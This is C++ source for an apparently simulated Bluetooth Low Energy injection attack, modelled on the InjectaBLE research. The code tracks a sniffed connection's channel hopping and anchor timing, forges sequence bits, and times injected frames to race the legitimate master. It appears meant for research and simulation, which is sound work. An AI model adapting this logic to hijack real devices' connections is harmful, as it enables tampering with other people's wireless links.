#include "core/session.hpp"

#include <algorithm>
#include <cmath>

#include "core/forge.hpp"
#include "phy/frame.hpp"

namespace injectable {

using ble::Duration;
using ble::TimePoint;
using namespace ble;  // NOLINT: time literals

namespace {
/// Longest data frame we expect on the link (payload 27 + MIC headroom).
constexpr Duration kMaxFrameAir = (1 + 4 + 2 + 27 + 4 + 3) * 8_us;
constexpr Duration kRxGuard = 40_us;
/// The observe window closes this long before the next predicted window so
/// the radio is free to retune.
constexpr Duration kEventTailGuard = 700_us;
}  // namespace

AttackSession::AttackSession(AttackerRadio& radio, SniffedConnection target, Params params)
    : radio_(radio) {
    restart(std::move(target), params);
}

void AttackSession::restart(SniffedConnection target, Params params) {
    if (ss_.running) stop();
    guard_.reset();
    if (ss_.timer != sim::kInvalidEvent) radio_.scheduler().cancel(ss_.timer);
    on_packet = nullptr;
    on_attempt = nullptr;
    on_connection_lost = nullptr;
    on_update_sniffed = nullptr;
    on_event_advanced = nullptr;
    attack_params_ = params;
    target_ = std::move(target);
    params_ = target_.params;
    // The paper's "easily adapted to the second algorithm": CSA#2 is a pure
    // function of the (sniffed) access address, so the attacker follows it
    // just as deterministically as CSA#1.
    if (params_.use_csa2) {
        selector_ = &held_selector_.csa2(params_.access_address, params_.channel_map);
    } else {
        selector_ = &held_selector_.csa1(
            params_.hop_increment, params_.channel_map,
            target_.from_connect_req ? 0 : target_.recovered_unmapped_channel);
    }
    ss_ = SessionState{};
    request_.done = nullptr;
}

AttackSession::~AttackSession() { stop(); }

void AttackSession::start() {
    ss_.running = true;
    radio_.rx_handler = [this](const sim::RxFrame& frame) { handle_rx(frame); };
    radio_.tx_handler = [this] { handle_tx_complete(); };

    ss_.anchor = target_.time_reference;
    if (target_.from_connect_req) {
        const Duration offset = kTransmitWindowDelayUncoded +
                                static_cast<Duration>(params_.win_offset) * kUnit1250us;
        ss_.predicted_anchor = target_.time_reference + radio_.sleep_clock().to_global(offset);
    } else {
        ss_.predicted_anchor =
            target_.time_reference + radio_.sleep_clock().to_global(params_.interval());
        ss_.event_counter = 1;  // relative counter; absolute value unknowable here
    }

    // The capture may be stale (the attacker synchronises whenever it
    // chooses, not necessarily at connection setup): fast-forward the
    // prediction and hopping state over the events that already elapsed. The
    // victims' residual drift over the gap is absorbed by the first observe
    // window's margin, after which the session re-anchors precisely.
    while (ss_.predicted_anchor + params_.interval() <
           radio_.now() + estimated_widening() + attack_params_.listen_margin) {
        // One skipped event: keep the CSA#1 chain and the counter in lockstep.
        selector_->channel_for_event(ss_.event_counter);
        ++ss_.event_counter;
        ss_.predicted_anchor += params_.interval();
    }
    schedule_event();
}

void AttackSession::stop() {
    ss_.running = false;
    guard_.reset();  // invalidates all pending callbacks
    if (ss_.timer != sim::kInvalidEvent) {
        radio_.scheduler().cancel(ss_.timer);
        ss_.timer = sim::kInvalidEvent;
    }
    radio_.rx_handler = nullptr;
    radio_.tx_handler = nullptr;
}

Duration AttackSession::estimated_widening() const noexcept {
    return link::window_widening(params_.master_sca_ppm(),
                                 attack_params_.assumed_slave_sca_ppm, params_.interval());
}

void AttackSession::inject(const InjectionRequest& request) {
    ss_.attempts = 0;
    ss_.injecting = true;
    request_.llid = request.llid;
    request_.payload.assign(request.payload.begin(), request.payload.end());
    request_.max_attempts = request.max_attempts;
    request_.done = request.done;
}

void AttackSession::apply_pending_procedures(Duration& delay, bool& update_applied) {
    const Duration old_interval = params_.interval();
    update_applied = false;
    if (ss_.pending_update && ss_.pending_update->instant == ss_.event_counter) {
        const auto update = *ss_.pending_update;
        params_.win_size = update.win_size;
        params_.win_offset = update.win_offset;
        params_.hop_interval = update.interval;
        params_.latency = update.latency;
        params_.timeout = update.timeout;
        ss_.pending_update.reset();
        delay = old_interval + kTransmitWindowDelayUncoded +
                static_cast<Duration>(update.win_offset) * kUnit1250us;
        update_applied = true;
    } else {
        delay = params_.interval();
    }
    if (ss_.pending_map && ss_.pending_map->instant == ss_.event_counter) {
        params_.channel_map = ss_.pending_map->map;
        selector_->set_channel_map(ss_.pending_map->map);
        ss_.pending_map.reset();
    }
}

void AttackSession::schedule_event() {
    if (!ss_.running || ss_.lost) return;
    ss_.channel = selector_->channel_for_event(ss_.event_counter);
    ss_.frames_this_event = 0;
    ss_.anchored_this_event = false;

    const bool can_inject = ss_.injecting && ss_.slave_bits_fresh &&
                            ss_.attempts < request_.max_attempts;
    ss_.mode = can_inject ? Mode::kInject : Mode::kObserve;
    if (ss_.mode == Mode::kInject) {
        begin_inject_event();
    } else {
        begin_observe_event();
    }
}

// --- observation ---

void AttackSession::begin_observe_event() {
    const Duration w = estimated_widening() + attack_params_.listen_margin;
    const TimePoint listen_from = ss_.predicted_anchor - w;
    const TimePoint close_at =
        ss_.predicted_anchor + std::max<Duration>(params_.interval() - kEventTailGuard, 2_ms);

    guard_.at(listen_from, [this] {
        if (ss_.running && ss_.mode == Mode::kObserve && !radio_.transmitting()) {
            radio_.listen(ss_.channel);
        }
    });
    ss_.timer = guard_.at(close_at, [this] { close_observe_event(); });
}

void AttackSession::handle_rx(const sim::RxFrame& frame) {
    if (!ss_.running || ss_.lost) return;
    const auto raw = phy::split_frame(frame.bytes);
    if (!raw || raw->access_address != params_.access_address) return;
    const bool crc_ok = raw->crc_ok(params_.crc_init);
    const link::DataPdu* pdu = link::DataPdu::parse(raw->pdu, rx_pdu_) ? &rx_pdu_ : nullptr;

    if (ss_.mode == Mode::kInject) {
        if (!ss_.awaiting_response) return;
        ss_.awaiting_response = false;
        radio_.stop_listening();
        ss_.observation.slave_rsp_start = frame.start;
        if (pdu && crc_ok) {
            ss_.observation.slave_sn = pdu->sn;
            ss_.observation.slave_nesn = pdu->nesn;
        }
        if (ss_.timer != sim::kInvalidEvent) {
            radio_.scheduler().cancel(ss_.timer);
            ss_.timer = sim::kInvalidEvent;
        }
        // The response is also a sniffed slave frame — scenario A's read
        // capture relies on it (fast stacks answer an injected ATT request
        // within the same connection event).
        if (on_packet) {
            SniffedPacket packet;
            packet.sender = SniffedPacket::Sender::kSlave;
            packet.crc_ok = crc_ok;
            packet.start = frame.start;
            packet.end = frame.end;
            packet.channel = frame.channel;
            packet.event_counter = ss_.event_counter;
            if (pdu) packet.pdu = *pdu;
            on_packet(packet);
        }
        finish_attempt();
        return;
    }

    // Observe mode. Classification: the master's frame opens the event at
    // the predicted anchor (within widening + margin); everything else in
    // the event alternates after it. Pure arrival-order classification has
    // an absorbing failure mode — mistaking the slave's response for the
    // anchor shifts the prediction by a frame + T_IFS and the error then
    // self-perpetuates — so the anchor frame must match the timing model.
    bool is_master_frame;
    if (!ss_.anchored_this_event) {
        const Duration offset = frame.start - ss_.predicted_anchor;
        const Duration tolerance =
            estimated_widening() + attack_params_.listen_margin + microseconds(20);
        is_master_frame = offset >= -tolerance && offset <= tolerance;
    } else {
        is_master_frame = (ss_.frames_this_event % 2) == 0;
    }
    ++ss_.frames_this_event;

    if (on_packet) {
        SniffedPacket packet;
        packet.sender =
            is_master_frame ? SniffedPacket::Sender::kMaster : SniffedPacket::Sender::kSlave;
        packet.crc_ok = crc_ok;
        packet.start = frame.start;
        packet.end = frame.end;
        packet.channel = frame.channel;
        packet.event_counter = ss_.event_counter;
        if (pdu) packet.pdu = *pdu;
        on_packet(packet);
    }

    if (is_master_frame) {
        if (!ss_.anchored_this_event) {
            // Only the event's first master frame is the anchor (later MD
            // frames must not shift the prediction base).
            ss_.anchor = frame.start;
            ss_.anchored_this_event = true;
        }
        ss_.missed_events = 0;
        if (pdu && crc_ok) {
            ss_.master_bits = {pdu->sn, pdu->nesn};
            if (pdu->is_control()) {
                if (const auto control = link::ControlPdu::parse(pdu->payload)) {
                    switch (control->opcode) {
                        case link::ControlOpcode::kConnectionUpdateInd:
                            if (auto upd = link::ConnectionUpdateInd::parse(*control)) {
                                if (attack_params_.apply_sniffed_updates) {
                                    ss_.pending_update = *upd;
                                }
                                if (on_update_sniffed) on_update_sniffed(*upd);
                            }
                            break;
                        case link::ControlOpcode::kChannelMapInd:
                            if (auto ind = link::ChannelMapInd::parse(*control)) {
                                if (attack_params_.apply_sniffed_updates) {
                                    ss_.pending_map = *ind;
                                }
                            }
                            break;
                        case link::ControlOpcode::kTerminateInd:
                            if (attack_params_.stop_on_terminate) declare_lost();
                            break;
                        case link::ControlOpcode::kClockAccuracyReq:
                        case link::ControlOpcode::kClockAccuracyRsp:
                            // §V-C: the master's SCA "can be extracted from
                            // ... LL_CLOCK_ACCURACY_REQ or _RSP" — refine the
                            // widening estimate when it floats by.
                            if (auto ca = link::ClockAccuracy::parse(*control)) {
                                params_.master_sca = ca->sca & 0x07;
                            }
                            break;
                        default:
                            break;
                    }
                }
            }
        }
    } else if (pdu && crc_ok) {
        ss_.slave_bits = {pdu->sn, pdu->nesn};
        ss_.slave_bits_fresh = true;
    }
}

void AttackSession::close_observe_event() {
    if (!ss_.running || ss_.lost) return;
    ss_.timer = sim::kInvalidEvent;
    radio_.stop_listening();

    if (!ss_.anchored_this_event) {
        ++ss_.missed_events;
        ss_.slave_bits_fresh = false;
        if (ss_.missed_events > attack_params_.max_missed_events) {
            declare_lost();
            return;
        }
    } else {
        ss_.predicted_anchor = ss_.anchor;
        // Freshness: a slave frame must have been seen *this* event.
        ss_.slave_bits_fresh = ss_.slave_bits_fresh && ss_.frames_this_event >= 2;
    }

    ++ss_.event_counter;
    Duration delay = 0;
    bool update_applied = false;
    apply_pending_procedures(delay, update_applied);
    ss_.predicted_anchor += radio_.sleep_clock().to_global(delay);
    if (on_event_advanced) on_event_advanced(ss_.event_counter);
    if (!ss_.running) return;
    schedule_event();
}

// --- injection ---

void AttackSession::begin_inject_event() {
    const Duration w = link::window_widening(params_.master_sca_ppm(),
                                             attack_params_.assumed_slave_sca_ppm,
                                             params_.interval());
    // TX-chain latency: the frame leaves a little after the ideal point,
    // with an occasional firmware hiccup that can forfeit the race.
    const double jitter = std::abs(radio_.rng().normal(
        0.0, static_cast<double>(attack_params_.tx_latency_sd)));
    Duration latency =
        attack_params_.tx_latency_mean + static_cast<Duration>(std::llround(jitter));
    if (radio_.rng().chance(attack_params_.hiccup_prob)) {
        latency += static_cast<Duration>(
            radio_.rng().uniform(0.0, static_cast<double>(attack_params_.hiccup_max)));
    }
    TimePoint tx_at = ss_.predicted_anchor - w + latency;

    // Turnaround pressure: at small intervals the dongle sometimes has not
    // finished processing the previous exchange when the window opens; the
    // frame then leaves late, racing from behind the legitimate master.
    const double p_late =
        std::clamp(static_cast<double>(attack_params_.turnaround_time) /
                       static_cast<double>(params_.interval()),
                   0.0, 0.5);
    if (radio_.rng().chance(p_late)) {
        tx_at = ss_.predicted_anchor +
                static_cast<Duration>(radio_.rng().uniform(0.0, 100e3));
    }
    const auto [sn_a, nesn_a] = forged_sequence_bits(ss_.slave_bits->first, ss_.slave_bits->second);
    inject_pdu_.llid = request_.llid;
    inject_pdu_.payload = request_.payload;
    inject_pdu_.sn = sn_a;
    inject_pdu_.nesn = nesn_a;

    ss_.slave_bits_fresh = false;  // consumed by this attempt
    ++ss_.attempts;

    ss_.observation = InjectionObservation{};
    ss_.observation.sn_a = sn_a;
    ss_.observation.nesn_a = nesn_a;

    ss_.timer = guard_.at(tx_at, [this] {
        if (!ss_.running || ss_.lost) return;
        ss_.timer = sim::kInvalidEvent;
        phy::make_air_frame(tx_frame_, params_.access_address, inject_pdu_.header(),
                            inject_pdu_.payload, params_.crc_init);
        ss_.observation.tx_start = radio_.now();
        ss_.observation.tx_duration = tx_frame_.duration();
        radio_.transmit(ss_.channel, tx_frame_);
    });
}

void AttackSession::handle_tx_complete() {
    if (!ss_.running || ss_.lost || ss_.mode != Mode::kInject) return;
    // Turn around and listen for the slave's response (Eq. 7 inputs).
    ss_.awaiting_response = true;
    radio_.listen(ss_.channel);
    ss_.timer = guard_.at(radio_.now() + kTifs + kMaxFrameAir + kRxGuard, [this] {
        if (!ss_.awaiting_response) return;
        if (radio_.receiving()) {
            ss_.timer = guard_.at(radio_.now() + kMaxFrameAir, [this] {
                if (!ss_.awaiting_response) return;
                ss_.awaiting_response = false;
                radio_.stop_listening();
                finish_attempt();
            });
            return;
        }
        ss_.awaiting_response = false;
        radio_.stop_listening();
        finish_attempt();
    });
}

void AttackSession::finish_attempt() {
    const HeuristicVerdict verdict = evaluate_injection(ss_.observation);

    AttemptReport report;
    report.attempt = ss_.attempts;
    report.event_counter = ss_.event_counter;
    report.channel = ss_.channel;
    report.observation = ss_.observation;
    report.verdict = verdict;
    ss_.last_attempt = report;
    if (on_attempt) on_attempt(report);

    // Model update: on success the slave re-anchored on *our* frame; on
    // failure the legitimate anchor is near the prediction (we could not see
    // it while transmitting). The next event is always an observation, which
    // re-anchors precisely.
    ss_.anchor = verdict.success() ? ss_.observation.tx_start : ss_.predicted_anchor;
    ss_.predicted_anchor = ss_.anchor;

    const bool success = verdict.success();
    const bool exhausted = ss_.attempts >= request_.max_attempts;
    if (success || exhausted) {
        auto done = std::move(request_.done);
        request_.done = nullptr;
        ss_.injecting = false;
        if (done) done(success, ss_.attempts);
        if (!ss_.running) return;  // completion handler may have stopped us
    }

    ++ss_.event_counter;
    Duration delay = 0;
    bool update_applied = false;
    apply_pending_procedures(delay, update_applied);
    ss_.predicted_anchor += radio_.sleep_clock().to_global(delay);
    if (on_event_advanced) on_event_advanced(ss_.event_counter);
    if (!ss_.running) return;  // the callback may have stopped the session
    schedule_event();
}

void AttackSession::declare_lost() {
    if (ss_.lost) return;
    ss_.lost = true;
    radio_.stop_listening();
    if (ss_.timer != sim::kInvalidEvent) {
        radio_.scheduler().cancel(ss_.timer);
        ss_.timer = sim::kInvalidEvent;
    }
    if (on_connection_lost) on_connection_lost();
}

}  // namespace injectable
